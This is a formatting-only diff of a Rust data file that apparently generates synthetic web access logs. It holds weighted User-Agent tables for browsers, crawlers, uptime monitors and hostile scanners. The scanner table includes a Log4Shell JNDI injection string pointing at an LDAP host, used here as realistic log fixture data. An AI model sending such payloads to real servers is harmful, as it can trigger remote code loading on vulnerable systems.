@@ -5,37 +5,118 @@ use crate::http::Class;
 
 /// Desktop and mobile browsers, weighted by share.
 pub(crate) const BROWSERS: &[(&str, u32)] = &[
-    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36", 30),
-    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36", 10),
-    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1", 20),
-    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36", 18),
-    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0", 6),
-    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0", 6),
-    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15", 5),
-    ("Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0", 2),
-    ("Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36", 2),
-    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22G86 [FBAN/FBIOS;FBAV/530.0.0.41.107;FBBV/787654321;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/18.6;FBSS/3;FBCR/;FBID/phone;FBLC/de_DE;FBOP/80]", 1),
-    ("Mozilla/5.0 (Linux; Android 13; 小米 13 Build/TKQ1.221114.001) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 XiaoMi/MiuiBrowser/18.0", 1),
+    (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
+        30,
+    ),
+    (
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
+        10,
+    ),
+    (
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
+        20,
+    ),
+    (
+        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
+        18,
+    ),
+    (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
+        6,
+    ),
+    (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
+        6,
+    ),
+    (
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
+        5,
+    ),
+    (
+        "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
+        2,
+    ),
+    (
+        "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
+        2,
+    ),
+    (
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22G86 [FBAN/FBIOS;FBAV/530.0.0.41.107;FBBV/787654321;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/18.6;FBSS/3;FBCR/;FBID/phone;FBLC/de_DE;FBOP/80]",
+        1,
+    ),
+    (
+        "Mozilla/5.0 (Linux; Android 13; 小米 13 Build/TKQ1.221114.001) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 XiaoMi/MiuiBrowser/18.0",
+        1,
+    ),
 ];
 
 /// Crawlers. One carries `"` characters, which Traefik's CLF writes raw.
 pub(crate) const BOTS: &[(&str, u32)] = &[
-    ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 20),
-    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 5),
-    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", 10),
-    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 12),
-    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", 8),
-    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", 8),
-    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", 6),
-    ("meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)", 5),
-    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", 3),
-    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", 3),
-    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 3),
-    ("Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", 3),
-    ("Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)", 2),
-    ("Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", 2),
-    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", 2),
-    ("Mozilla/5.0 (compatible; \"Pinger\"/2.1; +https://bot.example.net/ \"beta\")", 1),
+    (
+        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        20,
+    ),
+    (
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        5,
+    ),
+    (
+        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
+        10,
+    ),
+    (
+        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
+        12,
+    ),
+    (
+        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
+        8,
+    ),
+    (
+        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
+        8,
+    ),
+    (
+        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
+        6,
+    ),
+    (
+        "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
+        5,
+    ),
+    (
+        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+        3,
+    ),
+    (
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
+        3,
+    ),
+    (
+        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
+        3,
+    ),
+    (
+        "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
+        3,
+    ),
+    (
+        "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
+        2,
+    ),
+    (
+        "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
+        2,
+    ),
+    (
+        "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
+        2,
+    ),
+    (
+        "Mozilla/5.0 (compatible; \"Pinger\"/2.1; +https://bot.example.net/ \"beta\")",
+        1,
+    ),
 ];
 
 /// Libraries and command-line clients; `""` is a request with no User-Agent.
@@ -53,22 +134,43 @@ pub(crate) const TOOLS: &[(&str, u32)] = &[
 
 /// Uptime monitors.
 pub(crate) const MONITORS: &[(&str, u32)] = &[
-    ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", 5),
+    (
+        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
+        5,
+    ),
     ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", 2),
     ("Blackbox Exporter/0.25.0", 2),
 ];
 
 /// Scanners and brute-forcers; several carry `"` or injection payloads.
 pub(crate) const HOSTILE: &[(&str, u32)] = &[
-    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36", 15),
-    ("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", 6),
+    (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
+        15,
+    ),
+    (
+        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
+        6,
+    ),
     ("python-requests/2.31.0", 8),
     ("Go-http-client/1.1", 10),
     ("Mozilla/5.0 zgrab/0.x", 6),
-    ("WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)", 4),
-    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", 2),
-    ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", 3),
-    ("Mozilla/5.0 (l9scan/2.0.736313e2237393e22323e27313; +https://leakix.net)", 2),
+    (
+        "WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)",
+        4,
+    ),
+    (
+        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+        2,
+    ),
+    (
+        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
+        3,
+    ),
+    (
+        "Mozilla/5.0 (l9scan/2.0.736313e2237393e22323e27313; +https://leakix.net)",
+        2,
+    ),
     ("Fuzz Faster U Fool v2.1.0-dev", 2),
     ("", 6),
     ("${jndi:ldap://203.0.113.50:1389/a}", 1),
@@ -112,13 +214,70 @@ pub(crate) fn agents(class: Class) -> &'static [(&'static str, u32)] {
 
 /// Words for permalink slugs, categories and searches.
 pub(crate) const WORDS: &[&str] = &[
-    "hello", "world", "summer", "sale", "recipe", "guide", "best", "wordpress", "tips", "news",
-    "update", "review", "travel", "garden", "coffee", "local", "event", "photos", "how", "to",
-    "make", "easy", "quick", "new", "year", "the", "ultimate", "checklist", "winter", "kitchen",
-    "design", "ideas", "home", "family", "health", "fitness", "running", "music", "festival",
-    "market", "city", "weekend", "books", "reading", "learning", "php", "performance", "hosting",
-    "security", "backup", "plugin", "theme", "release", "notes", "interview", "story", "behind",
-    "scenes", "community", "meetup", "workshop", "podcast", "episode", "video",
+    "hello",
+    "world",
+    "summer",
+    "sale",
+    "recipe",
+    "guide",
+    "best",
+    "wordpress",
+    "tips",
+    "news",
+    "update",
+    "review",
+    "travel",
+    "garden",
+    "coffee",
+    "local",
+    "event",
+    "photos",
+    "how",
+    "to",
+    "make",
+    "easy",
+    "quick",
+    "new",
+    "year",
+    "the",
+    "ultimate",
+    "checklist",
+    "winter",
+    "kitchen",
+    "design",
+    "ideas",
+    "home",
+    "family",
+    "health",
+    "fitness",
+    "running",
+    "music",
+    "festival",
+    "market",
+    "city",
+    "weekend",
+    "books",
+    "reading",
+    "learning",
+    "php",
+    "performance",
+    "hosting",
+    "security",
+    "backup",
+    "plugin",
+    "theme",
+    "release",
+    "notes",
+    "interview",
+    "story",
+    "behind",
+    "scenes",
+    "community",
+    "meetup",
+    "workshop",
+    "podcast",
+    "episode",
+    "video",
 ];
 
 /// Theme and plugin stylesheets.
@@ -225,4 +384,9 @@ pub(crate) const SCANNER_PHP: &[&str] = &[
 ];
 
 /// Host headers no router matches (scanners hitting the load balancer by IP).
-pub(crate) const STRAY_HOSTS: &[&str] = &["192.0.2.10", "192.0.2.10:443", "localhost", "www.example.net"];
+pub(crate) const STRAY_HOSTS: &[&str] = &[
+    "192.0.2.10",
+    "192.0.2.10:443",
+    "localhost",
+    "www.example.net",
+];
